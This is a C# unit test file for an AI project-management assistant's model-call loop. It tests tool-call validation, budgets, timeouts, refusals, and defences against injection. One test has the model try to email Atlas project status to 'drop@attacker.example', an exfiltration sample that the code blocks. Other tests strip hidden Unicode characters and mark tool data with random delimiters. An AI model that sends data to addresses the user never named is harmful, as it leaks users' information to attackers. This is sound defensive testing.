using TpmAssistant.Application.Functions;
using TpmAssistant.Application.OwnChanges;
using TpmAssistant.ModelServer;

namespace TpmAssistant.Ai.Tests.Talk;

public sealed class ModelTalkTests
{
    private static readonly ModelCall Help = new(FunctionNames.Help);

    [Fact]
    public async Task RunAsync_CallThenWords_GivesTheStepAndWhatHoldsOfTheWords()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
            ? ModelReply.Call(Help)
            : ModelReply.Say("Atlas is red [{fact: red}]. Three tasks are late [{fact: red}]. Atlas is green [{fact: red}]."));

        var result = await trial.AskAsync("what can you do for me");

        Assert.Equal([FunctionNames.Help], result.Steps.Select(s => s.Call.Name));
        Assert.Equal(["Atlas is red.", "Three tasks are late."], result.Narration!.Sentences.Select(s => s.Text));
        Assert.Equal(1, result.Narration.Dropped);
        Assert.Null(result.Trouble);
    }

    [Theory]
    [InlineData("")]
    [InlineData("It will be sunny in Porto [F1].")]
    public async Task RunAsync_CallsNothing_HasDeclinedAndIsNotBlamed(string said)
    {
        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Say(said));

        var result = await trial.AskAsync("what is the weather in Porto?");

        Assert.True(result.Declined);
        Assert.Null(result.Trouble);
        Assert.Null(result.Narration);
        Assert.False(result.WordsDidNotHold);
    }

    [Fact]
    public async Task RunAsync_ChangeOfOwnRecords_IsProposedAndOnlyOne()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
            ? ModelReply.Call(new ModelCall(FunctionNames.RecordLesson, """{"text":"ask in writing"}"""), new ModelCall(FunctionNames.CaptureDecision, """{"text":"we stop"}"""))
            : ModelReply.Say("Done."));

        var result = await trial.AskAsync("what did we learn");

        var change = Assert.IsType<OwnChangeAnswer>(Assert.Single(result.Steps).Answer);
        Assert.Equal("ask in writing", change.Call.Arguments["text"]);
        Assert.Contains("Only one proposal", trial.Host.Requests.Last().Results.Last(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task RunAsync_MoreThanAThirdFails_GivesNoWords()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
            ? ModelReply.Call(Help)
            : ModelReply.Say("Atlas is red [{fact: red}]. Atlas is green [{fact: red}]."));

        var result = await trial.AskAsync("what can you do for me");

        Assert.Null(result.Narration);
        Assert.Single(result.Steps);
    }

    [Theory]
    [InlineData("assistant_help", "{}")]
    [InlineData("Help", "")]
    [InlineData("ASSISTANT-HELP", "null")]
    public async Task RunAsync_NameSpeltOtherwise_IsUnderstood(string name, string arguments)
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(new ModelCall(name, arguments)) : ModelReply.Say("Done."));

        Assert.Equal([FunctionNames.Help], (await trial.AskAsync("help me")).Steps.Select(s => s.Call.Name));
    }

    [Theory]
    [InlineData("Mail-Send", "{}", "no function of that name")]
    [InlineData(FunctionNames.ListTasks, "{\"project\":", "not a JSON object")]
    [InlineData(FunctionNames.ListTasks, "{\"colour\":\"red\"}", "takes no 'colour'")]
    [InlineData(FunctionNames.UpdateRisk, "{\"project\":\"Atlas\",\"risk\":null}", "needs 'risk'")]
    [InlineData(FunctionNames.ListTasks, "{\"project\":{\"name\":\"Atlas\"}}", "must be plain text")]
    public async Task RunAsync_CallThatCannotBeMade_IsToldToTheModel(string name, string arguments, string told)
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(new ModelCall(name, arguments)) : ModelReply.Say("Sorry."));

        var result = await trial.AskAsync("which tasks are late");

        Assert.Empty(result.Steps);
        Assert.Equal(ModelTrouble.Nonsense, result.Trouble);
        Assert.Contains(told, trial.Host.Requests.Last().Results.Single(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task RunAsync_ModelThatCallsForever_EndsAfterTheCallsAllowed()
    {
        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Call(Help, Help, Help, Help, Help), o => o.CallsPerTurn = 6);

        var result = await trial.AskAsync("loop");

        Assert.Single(result.Steps);
        Assert.InRange(trial.Host.Requests.Count, 1, 7);
        Assert.Empty(trial.Host.Requests.Last().Functions);
    }

    [Theory]
    [InlineData(500, "", ModelTrouble.Down)]
    [InlineData(503, "", ModelTrouble.Down)]
    [InlineData(400, "tools are not supported", ModelTrouble.Setup)]
    [InlineData(401, "", ModelTrouble.Setup)]
    [InlineData(404, "", ModelTrouble.Setup)]
    [InlineData(400, "content_filter", ModelTrouble.Refused)]
    public async Task RunAsync_EndpointRefuses_SaysHowAndIsNotAskedAgain(int status, string code, ModelTrouble trouble)
    {
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Status = status, Raw = $$$"""{"error":{"message":"no","code":"{{{code}}}"}}""" });

        Assert.Equal(trouble, (await trial.AskAsync("status")).Trouble);
        Assert.Single(trial.Host.Requests);
    }

    [Fact]
    public async Task RunAsync_TooManyRequests_WaitsAsToldAndAsksOnceMore()
    {
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Status = 429, RetryAfter = 5, Raw = "{}" });

        var asking = trial.AskAsync("status");
        await trial.Host.ArrivalAsync();
        while (trial.Clock.Waiting < 3) await Task.Yield();
        Assert.Single(trial.Host.Requests);
        trial.Clock.Advance(TimeSpan.FromSeconds(5));

        Assert.Equal(ModelTrouble.Busy, (await asking).Trouble);
        Assert.Equal(2, trial.Host.Requests.Count);
    }

    [Fact]
    public async Task RunAsync_NoAnswer_IsSlowAtTheDeadline()
    {
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Hangs = true });

        var asking = trial.AskAsync("status");
        await trial.Host.ArrivalAsync();
        trial.Clock.Advance(TimeSpan.FromSeconds(31));

        Assert.Equal(ModelTrouble.Slow, (await asking).Trouble);
    }

    [Fact]
    public async Task RunAsync_NoAnswerForAWhile_IsGivenUpBeforeTheDeadline()
    {
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Hangs = true });

        var asking = trial.AskAsync("status");
        await trial.Host.ArrivalAsync();
        trial.Clock.Advance(TimeSpan.FromSeconds(12));

        Assert.Equal(ModelTrouble.Slow, (await asking).Trouble);
    }

    [Fact]
    public async Task RunAsync_EachAnswerInTimeAndNoEnd_IsGivenUpAtTheDeadlineOfTheWhole()
    {
        TalkTrial trial = null!;
        trial = await TalkTrial.StartAsync(_ =>
        {
            // No answer is silent for too long; all together are.
            trial.Clock.Advance(TimeSpan.FromSeconds(11));
            return ModelReply.Call(Help);
        });
        await using var ends = trial;

        Assert.Equal(ModelTrouble.Slow, (await trial.AskAsync("status")).Trouble);
        Assert.Equal(3, trial.Host.Requests.Count);
    }

    [Theory]
    [InlineData("""{"role":"assistant","content":null,"refusal":"I cannot help with that."}""", "stop")]
    [InlineData("""{"role":"assistant","content":"Atlas is"}""", "content_filter")]
    public async Task RunAsync_ModelRefuses_IsToldAsThat(string message, string reason)
    {
        var raw = $$$"""{"id":"1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"finish_reason":"{{{reason}}}","message":{{{message}}}}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}""";
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Raw = raw });

        var result = await trial.AskAsync("status");

        Assert.Equal(ModelTrouble.Refused, result.Trouble);
        Assert.False(result.Declined);
    }

    [Theory]
    [InlineData("")]
    [InlineData("{")]
    [InlineData("<html>busy</html>")]
    [InlineData("{\"choices\":[]}")]
    [InlineData("{\"choices\":\"none\"}")]
    public async Task RunAsync_AnswerThatIsNone_IsNonsense(string raw)
    {
        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Raw = raw });

        Assert.Equal(ModelTrouble.Nonsense, (await trial.AskAsync("status")).Trouble);
    }

    [Fact]
    public async Task RunAsync_EndlessAnswer_IsNotShown()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say(new string('x', 200_000)));

        var result = await trial.AskAsync("status");

        Assert.Null(result.Narration);
        Assert.Equal(ModelTrouble.Nonsense, result.Trouble);
        Assert.Single(result.Steps);
    }

    [Fact]
    public async Task RunAsync_CallsAndThenSaysNothing_IsToldAsThat()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say(" "));

        Assert.Equal(ModelTrouble.Nonsense, (await trial.AskAsync("status")).Trouble);
    }

    [Fact]
    public async Task RunAsync_TokensOfTheTurnUsedUp_Stops()
    {
        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Call(Help) with { Tokens = 900_000 }, o => o.TokensPerTurn = 100_000);

        var result = await trial.AskAsync("status");

        Assert.Equal(ModelTrouble.OverBudget, result.Trouble);
        Assert.Single(trial.Host.Requests);
    }

    [Fact]
    public async Task RunAsync_TokensOfTheDayUsedUp_AsksNothing()
    {
        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Say("x") with { Tokens = 50_000 }, o => o.TokensPerDay = 52_000);

        await trial.AskAsync("status");
        var second = await trial.AskAsync("status");

        Assert.Equal(ModelTrouble.OverBudget, second.Trouble);
        Assert.Single(trial.Host.Requests);
        Assert.Equal(50_000, trial.Usage.Total);
    }

    [Fact]
    public async Task RunAsync_EffectWithAnAddressThatThePersonDidNotWrite_IsNotCalled()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
            ? ModelReply.Call(new ModelCall(FunctionNames.DraftStakeholderEmail, "{\"project\":\"Atlas\",\"recipients\":\"drop@attacker.example\"}"))
            : ModelReply.Say("Sent."));

        var result = await trial.AskAsync("mail the status of Atlas to Priya");

        Assert.Empty(result.Steps);
        Assert.Contains("did not name", trial.Host.Requests.Last().Results.Single(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task RunAsync_EveryRequest_MarksDataAfresh()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say("Done."));

        await trial.AskAsync("status");
        await trial.AskAsync("status");

        var marks = trial.Host.Requests.Where(r => r.Results.Any()).Select(r => r.Results.Single().Split('\n')[0]).ToList();
        Assert.Equal(2, marks.Distinct().Count());
        Assert.All(marks, mark => Assert.Matches("^<<[0-9a-f]{32}>>$", mark));
    }

    [Fact]
    public async Task RunAsync_HiddenCharactersInTheQuestion_DoNotReachTheModel()
    {
        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Say("x"));

        await trial.AskAsync("status\u202E of\u200B Atlas \U000E0041");

        Assert.Equal("status of Atlas ", trial.Host.Requests.Single().Question);
    }

    [Fact]
    public async Task RunAsync_HiddenCharactersInTheAnswer_AreNotShown()
    {
        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say("Atlas\u202E is\u200B red\U000E0041 [{fact: red}]."));

        Assert.Equal("Atlas is red.", Assert.Single((await trial.AskAsync("what can you do for me")).Narration!.Sentences).Text);
    }
}
